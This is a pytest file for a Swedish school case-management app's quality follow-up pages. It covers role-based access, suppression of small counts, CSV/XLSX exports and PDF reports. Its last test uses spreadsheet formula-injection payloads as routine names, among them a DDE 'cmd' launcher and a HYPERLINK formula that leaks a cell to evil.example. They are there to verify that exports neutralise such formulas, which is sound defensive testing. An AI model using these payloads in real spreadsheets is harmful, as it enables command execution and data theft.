"""The quality follow-up pages over HTTP, on the data set of tests/quality_data.py (figures worked out by
hand in tests/test_quality.py): what the rektor, the huvudman and others see, the exports and the
check-in report."""
from __future__ import annotations

import csv
import io
import json
import re

import pytest
import quality_data as qd
from lxml import html
from openpyxl import load_workbook

from elevflow.engine.org import passwords

from .conftest import PASSWORD, login, text


@pytest.fixture
def quality_org(engine, app):
    q = qd.build(engine)
    for username in ("rektor_a", "rektor_b", "specialpedagog_a", "teacher_a", "huvudman"):
        passwords.set_password(engine, username, PASSWORD)
    return q


def as_user(app, username):
    client = app.test_client()
    assert login(client, username).status_code == 302
    return client


def rows(page: str, key: str) -> list[list[str]]:
    """The rows of a figures table of the page, as the text of their cells."""
    [found] = html.fromstring(page).xpath(f'//table[@id="tabell-{key}"]')
    return [[" ".join(c.text_content().split()) for c in row.xpath("./th|./td")]
            for row in found.xpath("./tbody/tr")]


def table(page: str, key: str) -> dict[str, list[str]]:
    """A figures table of the page: first label -> the other cells' text."""
    return {cells[0]: cells[1:] for cells in rows(page, key)}


def test_the_rektor_sees_the_units_figures_and_the_nav_link(app, quality_org):
    client = as_user(app, "rektor_a")
    page = text(client.get("/kvalitet?termin=ht2025"))
    assert 'href="/kvalitet"' in page and "Kvalitet</a>" in page
    counts = table(page, "per_termin")
    assert counts["Anmälningar till rektor"][-2:] == ["1", "4"]  # vt 2025, ht 2025
    assert counts["Beslut om åtgärdsprogram"][-1] == "2"
    assert counts["Anmälningar om kränkande behandling"][-1] == "3"
    leads = table(page, "ledtider")
    assert leads["Anmälan → utredning inledd"] == ["1,5", "7,6", "4"]
    assert leads["Kränkning anmäld → ärendet avslutat"] == ["18,5", "25,3", "2"]
    assert table(page, "overklagande_utfall")["Avvisat av skolan: för sent"] == ["1"]
    assert table(page, "kb_form")["Verbal"] == ["2"]
    steps = {tuple(cells[:2]): cells[2:] for cells in rows(page, "steg")}
    appoint = steps[("Särskilt stöd", "Ta emot anmälan och utse utredningsansvarig")]
    assert appoint[:4] == ["4", "75 %", "1,5", "7,6"]
    assert steps[("Särskilt stöd", "Pedagogisk kartläggning")][-2:] == ["2", "2"]  # as of today: still open
    assert "Björkskolan" not in page and 'id="suppression-note"' not in page
    assert '<svg class="chart"' in page and "<script>" not in page


def test_the_huvudman_sees_every_unit_with_small_counts_hidden(app, quality_org):
    client = as_user(app, "huvudman")
    page = text(client.get("/kvalitet?termin=ht2025"))
    assert 'id="suppression-note"' in page
    assert table(page, "per_termin")["Anmälningar till rektor"][-2:] == ["färre än 5", "6"]
    units = table(page, "per_enhet")
    assert units["Ekskolan"][0] == units["Björkskolan"][0] == "färre än 5"
    assert table(page, "ledtider")["Utredning inledd → beslut"] == ["för få ärenden", "för få ärenden",
                                                                    "färre än 5"]
    assert 'name="enhet"' not in page  # no unit alone: the whole minus the part would tell too much
    for unit in (quality_org.units["b"], 999):  # one of theirs they may not see alone, one not theirs
        page = text(client.get(f"/kvalitet?termin=ht2025&enhet={unit}"))
        assert "tabell-per_enhet" in page
        assert table(page, "per_termin")["Anmälningar till rektor"][-1] == "6"


def test_others_get_no_figures_and_no_link(app, quality_org):
    client = as_user(app, "teacher_a")
    assert "/kvalitet" not in text(client.get("/uppgifter"))
    for path in ("/kvalitet", "/kvalitet/export?format=xlsx", "/kvalitet/rutin", "/kvalitet/avstamningar",
                 "/kvalitet/rutin/diagram.bpmn?rutin=sarskilt_stod"):
        assert client.get(path).status_code == 404, path
    # the student health team follows up its unit with the rektor (årshjul: "Analysera befintliga data")
    assert as_user(app, "specialpedagog_a").get("/kvalitet").status_code == 200


def test_exports_hold_what_the_page_shows(app, quality_org):
    rektor = as_user(app, "rektor_a").get("/kvalitet/export?format=csv&termin=ht2025")
    assert rektor.mimetype == "text/csv"
    assert 'filename="kvalitet-ht2025.csv"' in rektor.headers["Content-Disposition"]
    rows = list(csv.reader(io.StringIO(rektor.get_data().decode("utf-8-sig"))))
    assert rows[0] == ["Antal per termin"] and rows[1][-1] == "ht 2025"
    assert [r for r in rows if r and r[0] == "Anmälningar till rektor"][0][-2:] == ["1", "4"]

    book = as_user(app, "huvudman").get("/kvalitet/export?format=xlsx&termin=ht2025")
    assert book.mimetype.endswith("spreadsheetml.sheet")
    sheets = load_workbook(io.BytesIO(book.get_data()))
    counts = {r[0]: r[1:] for r in sheets["Antal per termin"].iter_rows(min_row=3, values_only=True)}
    assert counts["Anmälningar till rektor"][-2:] == ("färre än 5", 6)
    units = {r[0]: r[1:] for r in sheets[sheets.sheetnames[-1]].iter_rows(min_row=3, values_only=True)}
    assert units["Ekskolan"][0] == "färre än 5"


def test_the_process_view_marks_each_step_of_the_routine(app, quality_org):
    client = as_user(app, "rektor_a")
    page = text(client.get("/kvalitet/rutin?rutin=sarskilt_stod&termin=ht2025"))
    found = re.search(r'data-figures="([^"]*)"', page)
    figures = json.loads(html.fromstring(f"<p>{found.group(1)}</p>").text_content())
    assert figures["Task_utse_utredare"] == {"level": 1, "text": "4 klara · median 1,5 d · 0 nu"}
    assert figures["Task_pedagogisk_kartlaggning"]["text"] == "3 klara · median 7 d · 2 nu"
    slowest = max(figures.values(), key=lambda f: f["level"])
    assert slowest["level"] == 4
    diagram = client.get("/kvalitet/rutin/diagram.bpmn?rutin=sarskilt_stod")
    assert diagram.mimetype == "application/xml" and b'id="Task_utse_utredare"' in diagram.get_data()
    assert client.get("/kvalitet/rutin/diagram.bpmn?rutin=finns_inte").status_code == 404


def test_a_check_in_has_a_pdf_report_for_its_unit_only(app, quality_org):
    client = as_user(app, "rektor_a")
    page = text(client.get("/kvalitet/avstamningar"))
    links = re.findall(r'href="(/kvalitet/avstamningar/[0-9a-f-]+\.pdf)"', page)
    assert len(links) == 2 and "Gjord 2025-11-20" in page and "Väntar" in page
    report = client.get(links[-1])
    assert report.mimetype == "application/pdf" and report.get_data().startswith(b"%PDF")
    assert 'filename="kvalitet-ht2025-2025-11-20.pdf"' in report.headers["Content-Disposition"]
    assert client.get(links[-1]).get_data() == report.get_data()  # as it stood then: the same every time
    assert as_user(app, "rektor_b").get(links[-1]).status_code == 404
    assert as_user(app, "huvudman").get(links[-1]).status_code == 200
    assert client.get("/kvalitet/avstamningar/inte-ett-id.pdf").status_code == 404


FORMULA_CHARACTERS = "=+-@\uff1d\uff0b\uff0d\uff20"
# Names a process owner gives a routine and its steps, each of which a spreadsheet program would run.
HOSTILE_NAMES = {
    "Stödkedja (test)": "-2+3+cmd|' /C calc'!A0",
    "Anmäl till rektor": '=HYPERLINK("http://evil.example/?"&A1,"Öppna")',
    "Utred behovet": "@SUM(1+1)",
    "Utredningen är försenad": "\uff1d1+1",
    "Besluta om åtgärdsprogram": "  +1+1",
}


def test_exports_never_hold_a_formula_a_routine_author_wrote(app, engine, people, chain):
    """Formula injection (#13 point 6): step and routine names come from routines, so every exported cell
    that could be read as a formula is text — prefixed with an apostrophe in the CSV, a string (never a
    formula) in the workbook."""
    from xml.sax.saxutils import quoteattr

    from editing_helpers import add_process_owner

    from elevflow.engine import start_case
    from elevflow.engine.routines import editing
    owner = add_process_owner(engine, people.other_unit, "draftowner")
    draft = editing.open_draft(engine, chain.id, by=owner)
    xml = draft.files[draft.main_file]
    for old, new in HOSTILE_NAMES.items():
        xml = xml.replace(f'name="{old}"', f"name={quoteattr(new)}")
    editing.save(engine, draft.id, by=owner, seen=draft.row_version, bpmn=xml)
    editing.publish(engine, draft.id, by=owner, note="Nya namn")
    start_case(engine, "stodkedja", pupil_id=people.pupil, by=people.teacher)  # its report step is open now
    rektor = app.test_client()
    login(rektor, "rektor")

    exported = rektor.get("/kvalitet/export?format=csv").get_data().decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(exported)) for cell in row]
    for name in (HOSTILE_NAMES["Stödkedja (test)"], HOSTILE_NAMES["Anmäl till rektor"]):
        assert "'" + name in cells and name not in cells
    assert not [c for c in cells if c.lstrip()[:1] and c.lstrip()[0] in FORMULA_CHARACTERS]

    book = load_workbook(io.BytesIO(rektor.get("/kvalitet/export?format=xlsx").get_data()))
    written = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert not [c.coordinate for c in written if c.data_type == "f"]
    texts = {c.value for c in written}
    assert HOSTILE_NAMES["Anmäl till rektor"] in texts and HOSTILE_NAMES["Stödkedja (test)"] in texts
    risky = [c for c in written if isinstance(c.value, str) and c.value.lstrip()[:1]
             and c.value.lstrip()[0] in FORMULA_CHARACTERS]
    assert risky and all(c.data_type == "s" and c.quotePrefix for c in risky)
